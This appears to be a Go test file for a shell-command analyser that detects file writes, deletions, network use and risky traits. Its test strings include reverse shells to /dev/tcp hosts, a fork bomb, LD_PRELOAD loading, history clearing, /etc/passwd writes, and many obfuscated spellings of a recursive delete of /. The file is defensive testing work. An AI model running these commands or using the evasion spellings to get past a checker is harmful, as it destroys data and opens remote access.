package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/umpire-dev/umpire"
	"github.com/umpire-dev/umpire/internal/operation/golden"
	"github.com/umpire-dev/umpire/internal/operation/place"
)

var testEnv = Env{
	Map: place.Map{Home: "/home/dev", Workspace: "/home/dev/proj", Dir: "/home/dev/proj", Temp: "/tmp"},
	Getenv: func(name string) (string, bool) {
		if name == "LANG" {
			return "C", true
		}
		return "", false
	},
	ReadFile: func(path string) ([]byte, bool) {
		if path == "/home/dev/proj/clean.sh" {
			return []byte("#!/bin/sh\nprog -rf \"$1\"\n"), true
		}
		return nil, false
	},
}

func read(t *testing.T, text string) []string {
	t.Helper()
	var out []string
	for _, o := range Read(text, testEnv) {
		out = append(out, o.String())
	}
	return out
}

// A command that appends to a file uses the file's old text only if something reads it afterwards.
// Then that text counts, whichever program appended.
func TestAppendedText(t *testing.T) {
	for text, want := range map[string]bool{
		"date >> clean.sh": false, "echo x | tee -a clean.sh": false, "echo x >> clean.sh; echo y >> clean.sh": false, "{ echo x; echo y; } >> clean.sh": false,
		"echo x >> clean.sh; sh clean.sh /": true, "echo x | tee -a clean.sh; sh clean.sh /": true, "tee -a clean.sh </dev/null; . ./clean.sh /": true, "echo x >> clean.sh; set /; . ./clean.sh": true,
		"echo x >> clean.sh; cp clean.sh b.sh; sh b.sh /": true, "sh clean.sh /; echo x >> clean.sh": true,
	} {
		used, env := false, testEnv
		env.Peek = testEnv.ReadFile
		env.ReadFile = func(path string) ([]byte, bool) {
			b, ok := testEnv.ReadFile(path)
			used = used || ok
			return b, ok
		}
		ops := Read(text, env)
		if used != want {
			t.Errorf("%s: used %v", text, used)
		}
		if runs := slices.ContainsFunc(ops, func(o umpire.Operation) bool { return o.Resource == "prog -rf /" }); runs != want {
			t.Errorf("%s: %v", text, ops)
		}
	}
}

// The program in these commands has no Model, so that only the interpreter's own work
// shows.
func TestSpellings(t *testing.T) {
	const want = "exec(prog -rf /)"
	for _, text := range []string{
		`prog -rf /`,
		`/usr/bin/prog -rf /`,
		`\prog -rf /`,
		`pr''og -rf /`,
		`"prog" '-rf' "/"`,
		`$'\x70rog' -rf /`,
		`{prog,-rf,/}`,
		`x=prog; $x -rf /`,
		`x="prog -rf /"; $x`,
		`x=gorp; $(echo prog) -rf /`,
		"`printf %s prog` -rf /",
		`a=(prog -rf /); "${a[@]}"`,
		`a=(prog -rf /); ${a[0]} ${a[1]} ${a[2]}`,
		`x=xprog; ${x#x} -rf /`,
		`x=PROG; ${x,,} -rf /`,
		`x=program; ${x:0:4} -rf /`,
		`x=gorg; ${x/gorg/prog} -rf /`,
		`unset nothing; pr${nothing}og -rf /`,
		`y=x; x=prog; ${!y} -rf /`,
		`(prog -rf /)`,
		`{ prog -rf /; }`,
		`if true; then prog -rf /; fi`,
		`false || prog -rf /`,
		`true && prog -rf /`,
		`while true; do prog -rf /; break; done`,
		`for d in /; do prog -rf $d; done`,
		`for ((i=0;i<1;i++)); do prog -rf /; done`,
		`case x in x) prog -rf /;; esac`,
		`f() { prog -rf "$1"; }; f /`,
		`function f { prog "$@"; }; f -rf /`,
		`prog -rf / &`,
		`! prog -rf /`,
		`time prog -rf /`,
		`eval 'prog -rf /'`,
		`eval "$(echo prog -rf /)"`,
		`command prog -rf /`,
		`exec prog -rf /`,
		`builtin eval prog -rf /`,
		`alias p='prog -rf'; p /`,
		`trap 'prog -rf /' EXIT`,
		`x=$(prog -rf /)`,
		`echo "$(prog -rf /)"`,
		`: <(prog -rf /)`,
		`echo hi > >(prog -rf /)`,
		`cat <<< "$(prog -rf /)"`,
		"cat <<EOF\n$(prog -rf /)\nEOF",
		`[ -n "$(prog -rf /)" ]`,
		`[[ -n $(prog -rf /) ]]`,
		`(( $(prog -rf /) ))`,
		`x='a[$(prog -rf /)]'; echo $((x))`,
		`x='a[$(prog -rf /)]'; [[ $x -eq 0 ]]; let "$x"`,
		`x='$(prog -rf /)'; echo "${x@P}"`,
		`set -- prog -rf /; "$@"`,
		`set -- / ; prog -rf $1`,
		`read x <<< /; prog -rf $x`,
		`printf -v x %s /; prog -rf $x`,
		`IFS=,; x=prog,-rf,/; $x`,
		`export X=/; prog -rf $X`,
		`X=/ eval 'prog -rf $X'`,
		`declare X=/; prog -rf $X`,
		`declare -n R=X; X=/; prog -rf $R`,
		`PS4='$(prog -rf /)'; set -x; ls`,
		`PROMPT_COMMAND='prog -rf /'`,
		`coproc prog -rf /`,
		`mapfile -t a <<< "/"; prog -rf "${a[0]}"`,
		"ls\nprog -rf /",
		"ls # comment\nprog -rf /",
		"prog \\\n-rf /",
		"(a$!#0; prog -rf /\n)",
		"true | (``#; prog -rf /\n)",
		"(a$$#0\nprog -rf /)",
		`prog -rf /; echo "unterminated`,
	} {
		if got := read(t, text); !slices.Contains(got, want) {
			t.Errorf("%s\nreads %q,\nlacks %s", text, got, want)
		}
	}
}

// Data is not code, however dangerous it looks.
func TestData(t *testing.T) {
	for _, text := range []string{
		`echo 'prog -rf /'`,
		`echo prog -rf /`,
		`printf '%s\n' "prog -rf /"`,
		`x='prog -rf /'`,
		`x='$(prog -rf /)'; echo "$x"`,
		"cat <<'EOF'\n$(prog -rf /)\nEOF",
		`other -m "prog -rf /"`,
		`other '$(prog -rf /)'`,
		`# prog -rf /`,
		`ls # ; prog -rf /`,
		`alias p='prog -rf /'`,
		`f() { prog -rf /; }`,
		`[[ "prog -rf /" == x ]]`,
		`other "a; prog -rf /"`,
		`command -v prog`,
		`type prog`,
	} {
		for _, op := range read(t, text) {
			if strings.HasPrefix(op, "exec(prog") {
				t.Errorf("%s\nruns %s", text, op)
			}
		}
	}
}

func TestState(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{`cd /etc && echo x > passwd`, "write(/etc/passwd)"},
		{"> a do || (", "write(/home/dev/proj/a)"},              // a reserved word behind a redirection is a name
		{"x=((\n((bash<<<'cd /etc; > x;')>3)", "write(/etc/x)"}, // broken, and the ; is quoted
		{"x=((\n((bash<<<\"cd /etc; > x;\")>3)", "write(/etc/x)"},
		{`cd /etc; cd ..; > x`, "write(/x)"},
		{`(cd /etc); > x`, "write(/home/dev/proj/x)"},
		{`pushd /etc; > x; popd; > y`, "write(/home/dev/proj/y)"},
		{`cd ~; > x`, "write(/home/dev/x)"},
		{`d=/etc; > "$d/x"`, "write(/etc/x)"},
		{`if other; then d=/a; else d=/b; fi; > $d/x`, "write(/b/x)"},
		{`if other; then d=/a; else d=/b; fi; > $d/x`, "write(/a/x)"},
		{`> ${UNSET_ONE:-/etc/x}`, "write(/etc/x)"},
		{`f() { local d=/in; }; d=/out; f; > $d/x`, "write(/out/x)"},
		{`echo hi >> log`, "write(/home/dev/proj/log)"},
		{`other 2> err`, "write(/home/dev/proj/err)"},
		{`other &> all`, "write(/home/dev/proj/all)"},
		{`exec 3> held; echo x >&3`, "write(/home/dev/proj/held)"},
		{`other < in`, "read(/home/dev/proj/in)"},
		{`x=$(< in)`, "read(/home/dev/proj/in)"},
		{`echo x > /dev/tcp/host.example/80`, "network(host.example:80)"},
		{`exec 3<>/dev/tcp/host.example/80`, "network(host.example:80)"},
		{`./clean.sh /etc`, "exec(prog -rf /etc)"},
		{`. ./clean.sh /etc`, "exec(prog -rf /etc)"},
		{`echo 'prog -x' > s.sh; ./s.sh`, "exec(prog -x)"},
		{`cat > s.sh <<< 'prog -x'; source s.sh`, "exec(cat)"},
		{`prog "$LANG"`, "exec(prog C)"},
		{`echo prog -x > ~/.bashrc`, "write(/home/dev/.bashrc)"},
		{`ln -s /etc e && echo x > e/passwd`, "write(/etc/passwd)"},
		{`ln -s /etc/passwd p; echo x > p`, "write(/etc/passwd)"},
		{`ln -s /etc e; ln -s e f; rm f/passwd`, "delete(/etc/passwd)"},
		{`ln -s /etc e; rm e`, "delete(/home/dev/proj/e)"},
		{`python3 -c "import shutil; shutil.rmtree('/etc')" --help`, "delete(/etc)"},
	} {
		if got := read(t, tt.text); !slices.Contains(got, tt.want) {
			t.Errorf("%s\nreads %q,\nlacks %s", tt.text, got, tt.want)
		}
	}
}

func TestTraits(t *testing.T) {
	for _, tt := range []struct {
		text string
		want umpire.Trait
	}{
		{`:(){ :|:& };:`, umpire.ResourceBomb},
		{`b() { b | b & }; b`, umpire.ResourceBomb},
		{`while true; do other & done`, umpire.ResourceBomb},
		{`$UNSET_ONE -rf /`, umpire.UnseenCode},
		{`eval "$UNSET_ONE"`, umpire.UnseenCode},
		{`sh=bash; exec 5<>/dev/tcp/1.2.3.4/9; bash -i <&5 >&5`, umpire.RemoteShell},
		{`bash -i >& /dev/tcp/1.2.3.4/443 0>&1`, umpire.RemoteShell},
		{`LD_PRELOAD=./x.so other`, umpire.LoadsCode},
		{`NODE_OPTIONS='--require ./x.js' other`, umpire.LoadsCode},
		{"ec\u200bho x", umpire.HiddenText},
		{"other" + strings.Repeat("\n \t", gapLines+1) + "prog x", umpire.HiddenText},
		{"other" + strings.Repeat(" ", gapWidth) + "\u3000; prog x", umpire.HiddenText},
		{`other "$UNSET_ONE"`, umpire.Unknown},
		{`history -c`, umpire.AuditTamper},
		{`fc -e 'prog -rf' x`, umpire.Unknown},
	} {
		var got umpire.Trait
		for _, o := range Read(tt.text, testEnv) {
			got |= o.Traits
		}
		if !got.Has(tt.want) {
			t.Errorf("%s\nhas the traits %v, lacks %v", tt.text, got, tt.want)
		}
	}
	for _, text := range []string{
		`f() { f2 & }; f; f`,
		`while true; do other; sleep 1; done`,
		`for i in 1 2 3; do other & done; wait`,
		`r() { [ "$1" = 0 ] || r $(( $1 - 1 )); }; r 3`,
		`other é ü 你好`,
		"other" + strings.Repeat("\n", gapLines) + "prog" + strings.Repeat(" ", gapWidth) + "x" + strings.Repeat("\n ", gapWidth),
	} {
		for _, o := range Read(text, testEnv) {
			if o.Traits&(umpire.ResourceBomb|umpire.HiddenText) != 0 {
				t.Errorf("%s\nis taken for %v", text, o.Traits)
			}
		}
	}
}

// An adversary who exceeds a bound must not get past the judge by it.
func TestBounds(t *testing.T) {
	for name, text := range map[string]string{
		"nesting":   strings.Repeat("(", 5000) + "prog -rf /" + strings.Repeat(")", 5000),
		"size":      strings.Repeat("x ", maxText) + "; prog -rf /",
		"words":     "x=($(n) " + strings.Repeat("x ", maxFields) + "); other " + strings.Repeat("x ", maxFields) + "; prog -rf /",
		"recursion": `f() { g; g; g; }; g() { h; h; h; }; h() { i; i; i; }; i() { f; f; f; }; f`,
		"braces":    `prog {1..999}{1..999}{1..999}`,
		"doubling":  `x=aaaaaaaaaaaaaaaa; ` + strings.Repeat(`x=$x$x$x$x;`, 40) + ` $x`,
		"worlds":    strings.Repeat(`if other; then a=1; b=1; c=1; d=1; else a=2; b=2; c=2; d=2; fi; other $a$b$c$d;`, 50),
		"eval":      strings.Repeat(`eval "`, 100) + `prog -rf /` + strings.Repeat(`"`, 100),
	} {
		ops := Read(text, testEnv)
		if len(ops) > maxOps+1 {
			t.Errorf("%s: %d operations", name, len(ops))
		}
		known := len(ops) > 0
		for _, o := range ops {
			known = known && o.Traits&umpire.Unknown == 0 && o.String() != "exec(prog -rf /)"
		}
		if name != "worlds" && name != "braces" && name != "recursion" && known {
			t.Errorf("%s: neither read nor unknown: %v", name, ops)
		}
	}
}

// Where nobody can say how many words there are, no place behind them is known, and
// nothing that stands there is lost.
func TestPlacesBehindUnknownWords(t *testing.T) {
	for _, tt := range []struct{ name, text, want string }{
		{"as it is", `set -- ls prog; shift; $1`, "exec(prog)"},
		{"counted by a builtin", `builtin let x=5; prog $x`, "exec(prog 5)"},
		{"with an end of options", `set -- ls prog; shift -- 1; $1`, "exec(prog)"},
		{"more than there are", `set -- prog; shift 5; for x in "$@"; do $x; done`, "exec(prog)"},
		{"fewer than none", `set -- prog; shift -1; $1`, "exec(prog)"},
		{"no number", `set -- prog; shift x; $1`, "exec(prog)"},
		{"a number nobody knows", `set -- ls prog; shift $N; $1`, "exec(⟨?⟩)"},
		{"a number nobody knows, and a loop", `set -- ls prog; shift $N; for x in "$@"; do $x; done`, "exec(prog)"},
		{"a number that a program prints", `set -- ls prog; shift $(n); $1`, "exec(⟨?⟩)"},
		{"of words nobody knows", `set -- $(n); shift; "$@"`, "exec(⟨?⟩)"},
		{"the second of them", `set -- $(n) ls; $2`, "exec(⟨?⟩)"},
		{"once more", `set -- $(n) ls; set -- "$@"; $2`, "exec(⟨?⟩)"},
		{"to a function", `f() { $2; }; f $(n) ls`, "exec(⟨?⟩)"},
		{"a slice", `set -- $(n); set -- "${@:2}" ls; $2`, "exec(⟨?⟩)"},
		{"names of files", `set -- * ls; $2`, "exec(⟨?⟩)"},
		{"of an array", `a=($(n) ls); ${a[1]}`, "exec(⟨?⟩)"},
		{"beyond an array", `a=($(n)); ${a[3]}`, "exec(⟨?⟩)"},
		{"from its end", `a=(ls $(n)); ${a[-2]}`, "exec(⟨?⟩)"},
		{"lines of a file", `mapfile -t a < list; ${a[1]}`, "exec(⟨?⟩)"},
		{"words of a line", `read -ra a < list; ${a[1]}`, "exec(⟨?⟩)"},
		{"in quotes it is one", `f() { shift; "$@"; }; f "$N" prog`, "exec(prog)"},
		{"in quotes, the second", `f() { $2; }; f "$N" prog`, "exec(prog)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := read(t, tt.text); !slices.ContainsFunc(got, func(op string) bool { return strings.HasPrefix(op, tt.want) }) {
				t.Errorf("%s: %q, without %s", tt.text, got, tt.want)
			}
		})
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{
		`prog -rf /`, `x=1; (( x = a[$(y)] ))`, "cat <<EOF\n$x\nEOF", `for i in {1..3}; do $i; done`, `${x/a/b}${x:1:2}${!x}`,
		`f() { f | f & }; f`, `exec 3<>/dev/tcp/a/1`, "\u202e", `[[ -v a[$(b)] ]]`, `echo $'\xff\u1234'`, `a=(1 2); ${a[-9]}`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4<<10 {
			return
		}
		if ops := Read(text, testEnv); len(ops) > maxOps+1 {
			t.Errorf("%d operations", len(ops))
		}
	})
}

// FuzzCompound is invariant 2 at its root: a construct of the shell around a command
// hides none of its operations.
func FuzzCompound(f *testing.F) {
	f.Add(`prog -rf /`, uint8(0))
	f.Add(`x=/; prog $x`, uint8(3))
	f.Fuzz(func(t *testing.T, text string, which uint8) {
		if len(text) > 1<<10 {
			return
		}
		// A backslash, a comment or a here-document at the end would take the wrapper's
		// own text for its.
		if _, err := parse(text, 0); err != nil || strings.Contains(text, "<<") || strings.ContainsFunc(text, func(r rune) bool {
			return r == '\\' || r == '#' || r == '`' || r != '\n' && r < ' ' || r > '~'
		}) {
			return
		}
		wraps := []string{"(%\n)", "{ %\n}", "if true; then %\nfi", "! { %\n}", "true && {\n%\n}", "while true; do %\nbreak; done", "eval '%'", "wrapper_() {\n%\n}; wrapper_", "true | (%\n)"}
		w := wraps[int(which)%len(wraps)]
		if strings.HasPrefix(w, "eval") && strings.HasPrefix(text, "-") || strings.HasPrefix(w, "wrapper_") && strings.Contains(text, "$") {
			return // eval has an option, and a function parameters of its own
		}
		inner := text
		if strings.Contains(w, "'%'") {
			inner = strings.ReplaceAll(text, "'", `'\''`)
		}
		wrapped := Read(strings.Replace(w, "%", inner, 1), testEnv)
		leave := umpire.Unknown
		if strings.HasPrefix(w, "true |") {
			leave |= umpire.Interactive // nobody types into a pipe
		}
		for _, o := range Read(text, testEnv) {
			if !slices.ContainsFunc(wrapped, func(x umpire.Operation) bool {
				return x.Kind == o.Kind && x.Resource == o.Resource && x.Traits.Has(o.Traits&^leave) || x.Traits&umpire.Obfuscated != 0
			}) {
				t.Errorf("%q\nwrapped in %q loses %v [%v]:\n%v", text, w, o, o.Traits, wrapped)
			}
		}
	})
}

// The aliases of a startup file that a call writes are read in one order, so that each run of the hook
// gives the same answer.
func TestPlantedAliasesAreReadInOrder(t *testing.T) {
	read := func() []string {
		return golden.Lines(Read("printf 'alias a=\"rm -r /srv/a\"\\nalias b=\"rm -r /srv/b\"\\nalias c=\"rm -r /srv/c\"\\n' >> ~/.bashrc", Env{Map: place.Map{Home: "/home/dev", Workspace: "/home/dev/proj", Dir: "/home/dev/proj"}}))
	}
	first := read()
	if !slices.ContainsFunc(first, func(l string) bool { return strings.Contains(l, "delete(/srv/b)") }) {
		t.Fatalf("no alias is read: %q", first)
	}
	for range 20 {
		if again := read(); !slices.Equal(again, first) {
			t.Fatalf("is read as %q, and before as %q", again, first)
		}
	}
}

// A script that starts itself again with each shell that it finds, as configure does, is parsed once.
func TestLongTextIsParsedOnce(t *testing.T) {
	w := &world{}
	long := strings.Repeat("echo a\n", keptText)
	first, err := w.source(long)
	if err != nil {
		t.Fatal(err)
	}
	if again, _ := w.source(long); again.file != first.file {
		t.Error("a long text was parsed twice")
	}
	if _, err := w.source(long + "("); err == nil {
		t.Error("a text that does not parse must stay one")
	}
	if _, err := w.source(long + "("); err == nil {
		t.Error("a text that does not parse must stay one when it is read again")
	}
}
